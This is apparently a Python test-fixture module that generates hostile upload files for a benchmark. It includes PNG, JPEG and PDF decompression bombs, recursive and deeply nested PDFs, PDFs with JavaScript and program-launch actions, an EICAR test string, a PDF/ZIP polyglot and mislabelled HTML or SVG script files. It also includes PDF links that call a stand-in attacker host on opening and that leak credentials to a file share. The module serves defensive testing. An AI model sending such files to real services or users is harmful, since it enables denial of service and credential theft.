"""Files that want to hurt: what ``scripts/bench_hostile.py`` uploads."""

from __future__ import annotations

import io
import itertools
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import cache
from typing import Any

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-" + rb"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
File = tuple[str, bytes]


def _pdf(change: Callable[[Any], object], **how: Any) -> bytes:
    import pikepdf

    out = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        change(pdf)
        pdf.save(out, **how)
    return out.getvalue()


def _action(kind: str, **more: Any) -> bytes:
    from pikepdf import Dictionary, Name

    return _pdf(lambda pdf: setattr(pdf.Root, "OpenAction", Dictionary(S=Name(f"/{kind}"), **more)))


def _picture(nth: int, mode: str, side: int) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new(mode, (side + nth, side)).save(out, "PNG", compress_level=1)
    return out.getvalue()


def png_of_many_pixels(nth: int) -> File:
    """Return 600 kB that become 300 MB when decoded."""
    return "foto.png", _picture(nth, "RGBA", 8700)


def png_that_says_less(nth: int) -> File:
    """Return a picture whose header and content differ."""
    content = bytearray(_picture(nth, "RGB", 3000))
    content[16:24] = (40_000 + nth).to_bytes(4, "big") + (1000).to_bytes(4, "big")
    content[29:33] = zlib.crc32(bytes(content[12:29])).to_bytes(4, "big")
    return "foto.png", bytes(content)


def png_of_compressed_text(nth: int) -> File:
    """Return a small picture with text that unfolds to gigabytes."""
    squeezed = zlib.compress(b"\0" * (60_000_000 + nth), 9)
    body = b"zTXt" + b"k\0\0" + squeezed
    chunk = (len(body) - 4).to_bytes(4, "big") + body + zlib.crc32(body).to_bytes(4, "big")
    plain = _picture(nth, "RGB", 20)
    return "foto.png", plain[:33] + chunk * 20 + plain[33:]


def jpeg_of_many_scans(nth: int) -> File:
    """Return a progressive JPEG of 64 megapixels whose last scan is repeated thousands of times."""
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (8000 + nth, 8000), "teal").save(out, "JPEG", progressive=True, quality=20)
    content = out.getvalue()
    last = content.rindex(b"\xff\xda")
    scan = content[last:-2]
    more = 5_000 + nth
    return "foto.jpg", content[:-2] + scan * more + b"\xff\xd9"


def pdf_of_a_huge_table(nth: int) -> File:
    """Return a PDF whose table of objects unfolds to 400 MB."""
    stream = zlib.compress(b"\0" * (400_000_000 + nth), 9)
    head = (
        f"%PDF-1.7\n1 0 obj\n<< /Type /XRef /Size 100000000 /W [1 2 1] /Root 2 0 R "
        f"/Filter /FlateDecode /Length {len(stream)} >>\nstream\n"
    ).encode()
    return "ktp.pdf", head + stream + b"\nendstream\nendobj\nstartxref\n9\n%%EOF\n"


def pdf_packed_twice(nth: int) -> File:
    """Return a PDF whose objects lie in a stream that was compressed three times."""
    stream = b"1 0 " + b" " * (200_000_000 + nth)
    for _turn in range(3):
        stream = zlib.compress(stream, 9)
    text = (
        "%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 900000 /First 4 /Filter [/FlateDecode /FlateDecode "
        f"/FlateDecode] /Length {len(stream)} >>\nstream\n"
    ).encode()
    end = b"\nendstream\nendobj\ntrailer << /Root 2 0 R /Size 3 >>\nstartxref\n0\n%%EOF\n"
    return "ktp.pdf", text + stream + end


def pdf_in_circles(nth: int) -> File:
    """Return a PDF whose pages are their own parents."""
    text = (
        "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
        f"2 0 obj << /Type /Pages /Count {9_000_000 + nth} /Kids [{'2 0 R ' * 50_000}] >> endobj\n"
        "trailer << /Root 1 0 R /Size 3 >>\nstartxref\n0\n%%EOF\n"
    )
    return "ktp.pdf", text.encode()


def pdf_nested_deeply(nth: int) -> File:
    """Return a PDF with half a million brackets inside one another."""
    deep = 500_000 + nth
    text = f"%PDF-1.4\n1 0 obj {'[' * deep}{']' * deep} endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    return "ktp.pdf", text.encode()


def pdf_with_a_script(nth: int) -> File:
    """Return a PDF that runs JavaScript when it is opened."""
    from pikepdf import String

    return "surat.pdf", _action("JavaScript", JS=String(f"app.alert({nth})"))


def pdf_that_starts_a_program(nth: int) -> File:
    """Return a PDF that starts a program."""
    from pikepdf import String

    return "surat.pdf", _action("Launch", F=String(f"cmd{nth}.exe"))


def pdf_with_a_file(nth: int) -> File:
    """Return a PDF with a program attached."""

    def attach(pdf: Any) -> None:
        pdf.attachments[f"{nth}.exe"] = b"MZ\x90"

    return "surat.pdf", _pdf(attach)


def pdf_with_a_link_to_a_share(nth: int) -> File:
    """Return a PDF with a link that tells a server the password of whoever follows it."""
    from pikepdf import String

    return "surat.pdf", _action("URI", URI=String(f"file://evil{nth}/share/x"))


def pdf_that_calls_home(nth: int) -> File:
    """Return a PDF that opens an address on the web when it is opened itself."""
    from pikepdf import String

    return "surat.pdf", _action("URI", URI=String(f"https://evil{nth}.example/opened"))


def pdf_with_a_virus(nth: int) -> File:
    """Return a PDF with the test virus of EICAR in the content of its page."""

    def infect(pdf: Any) -> None:
        pdf.pages[0].Contents = pdf.make_stream(EICAR + b" %d" % nth)

    return "surat.pdf", _pdf(infect)


def pdf_and_archive(nth: int) -> File:
    """Return a PDF that a program for archives opens as well."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(f"{nth}.exe", b"MZ")
    return "surat.pdf", _pdf(lambda pdf: None) + packed.getvalue()


def page_called_pdf(nth: int) -> File:
    """Return an HTML page named as a PDF."""
    return "surat.pdf", f"<html><script>alert({nth})</script>".encode()


def picture_called_pdf_of_vectors(nth: int) -> File:
    """Return an SVG with a script, named as a PNG."""
    return "logo.png", f"<svg onload='alert({nth})' xmlns='http://www.w3.org/2000/svg'/>".encode()


KINDS: tuple[Callable[[int], File], ...] = (
    png_of_many_pixels,
    png_that_says_less,
    png_of_compressed_text,
    jpeg_of_many_scans,
    pdf_of_a_huge_table,
    pdf_packed_twice,
    pdf_in_circles,
    pdf_nested_deeply,
    pdf_with_a_script,
    pdf_that_starts_a_program,
    pdf_with_a_file,
    pdf_with_a_link_to_a_share,
    pdf_that_calls_home,
    pdf_with_a_virus,
    pdf_and_archive,
    page_called_pdf,
    picture_called_pdf_of_vectors,
)


@cache
def _made(kind: Callable[[int], File], variant: int) -> File:
    return kind(variant)


def hostile_files(many: int) -> Iterator[tuple[str, File]]:
    """Yield ``many`` files with the name of their kind, all kinds in turns, two of each."""
    for nth, kind in enumerate(itertools.islice(itertools.cycle(KINDS), many)):
        yield kind.__name__, _made(kind, nth // len(KINDS) % 2)
